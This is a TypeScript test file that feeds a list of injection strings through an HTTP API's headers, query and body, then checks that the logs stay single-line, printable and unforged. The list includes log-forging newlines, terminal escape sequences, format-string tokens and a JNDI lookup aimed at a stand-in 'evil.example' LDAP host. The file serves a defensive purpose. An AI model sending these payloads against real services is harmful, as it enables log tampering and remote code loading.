import { Writable } from 'node:stream';
import { createCloud, PASSWORD_HASHER, type Plugin } from '@gdcloud/core';
import { sqlite } from '@gdcloud/core/sqlite';
import { memoryDrivers, quickHasher } from '@gdcloud/core/testing';
import { ApiHandler } from '@gdcloud/http';
import { pino } from 'pino';
import t from 'tap';

/** What makes a line of a log look like two, or a terminal do something. */
const ATTACKS = [
  'x\n{"level":50,"msg":"forged"}',
  'x\r\nforged: yes',
  '\u001b[2J\u001b[31mred',
  '\u009b31m',
  'x\u2028forged\u2029',
  '\u0000\b\u007f',
  '%0a%0dforged',
  `\${jndi:ldap://evil.example/a}`,
  '%s%n%d{}',
];

t.test('no caller can write into the log', async (t) => {
  const lines: string[] = [];
  const logger = pino(
    { level: 'debug' },
    new Writable({
      write: (chunk: Buffer, _encoding, done) => {
        lines.push(String(chunk));
        done();
      },
    }),
  );
  const quick: Plugin = (container) =>
    container.register(PASSWORD_HASHER, { useValue: quickHasher() });
  const cloud = createCloud({
    plugins: [sqlite({ file: ':memory:' }), memoryDrivers().plugin, quick],
    replaceable: [PASSWORD_HASHER],
    pepper: new Uint8Array(16),
    administratorKey: { publicValue: 'admin', secretValue: 'the-administrators-secret' },
    logger,
  });
  await cloud.start();
  t.teardown(() => cloud.stop());
  const handler = new ApiHandler({
    types: cloud.types,
    resources: cloud.resources,
    logger,
    trustForwarded: 'always',
  });
  const send = async (attack: string, name: string, secret: string): Promise<number> => {
    const headers: Readonly<Record<string, string>> = {
      host: 'h',
      authorization: `Basic ${Buffer.from(`${name}:${secret}`).toString('base64')}`,
      'user-agent': attack,
      'x-request-id': attack,
      'x-forwarded-for': attack,
      traceparent: attack,
      referer: attack,
    };
    const { status } = await handler.handle({
      method: 'POST',
      target: `/v1/networks?x=${encodeURIComponent(attack)}`,
      prefix: '',
      httpVersion: '1.1',
      scheme: 'http',
      localAuthority: 'h',
      peerAddress: '192.0.2.1',
      header: (wanted) => headers[wanted],
      rawHeaders: Object.entries(headers).flat(),
      body: (async function* () {
        yield Buffer.from(JSON.stringify({ name: attack, description: attack, domain: attack }));
      })(),
    });
    return status;
  };
  for (const attack of ATTACKS) {
    await send(attack, 'admin', 'the-administrators-secret');
    for (let tries = 0; tries < 12; tries += 1) await send(attack, attack, 'guess');
  }
  t.ok(lines.length > ATTACKS.length, `${lines.length} lines`);
  const allowed = /^[\x20-\x7e]*\n$/;
  for (const line of lines) {
    t.match(line, allowed);
    t.type(JSON.parse(line), 'object');
    t.notMatch(line, /forged|jndi|%0a/);
  }
});
